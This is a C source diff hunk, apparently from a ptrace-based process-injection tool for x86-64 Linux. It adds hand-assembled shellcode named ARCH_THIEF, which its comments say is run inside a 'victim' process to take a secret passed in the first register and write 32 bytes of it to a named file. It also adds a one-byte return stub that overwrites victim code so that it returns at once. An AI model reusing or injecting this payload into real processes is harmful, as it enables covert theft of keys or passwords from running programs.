@@ -67,6 +67,24 @@ static inline void arch_held(const struct user_regs_struct *regs, uint64_t words
 #define ARCH_PROBE_SYSCALL "__x64_sys_nanosleep"
 #define ARCH_PROBE_STRING "+0(%di):string"
 
+/*
+ * Code without an address in it, called with a secret in the first argument: writes 32 bytes of it to the file whose
+ * name follows, and returns. What a victim runs before somebody overwrites it returns at once.
+ */
+#define ARCH_RETURN "\xc3"
+#define ARCH_THIEF                                                    \
+	"\x57"                         /* push rdi */                 \
+	"\x48\x8d\x3d\x26\x00\x00\x00" /* lea rdi, [the name] */      \
+	"\xbe\x01\x00\x00\x00"         /* mov esi, O_WRONLY */        \
+	"\x31\xd2"                     /* xor edx, edx */             \
+	"\xb8\x02\x00\x00\x00\x0f\x05" /* mov eax, open; syscall */   \
+	"\x5e"                         /* pop rsi */                  \
+	"\x48\x89\xc7"                 /* mov rdi, rax */             \
+	"\xba\x20\x00\x00\x00"         /* mov edx, 32 */              \
+	"\xb8\x01\x00\x00\x00\x0f\x05" /* mov eax, write; syscall */  \
+	"\xb8\x03\x00\x00\x00\x0f\x05" /* mov eax, close; syscall */  \
+	"\xc3"
+
 /* Registers for a system call of ours in a thread stopped in one of its own. */
 static inline void arch_call(struct user_regs_struct *regs, long number, const uint64_t args[4])
 {
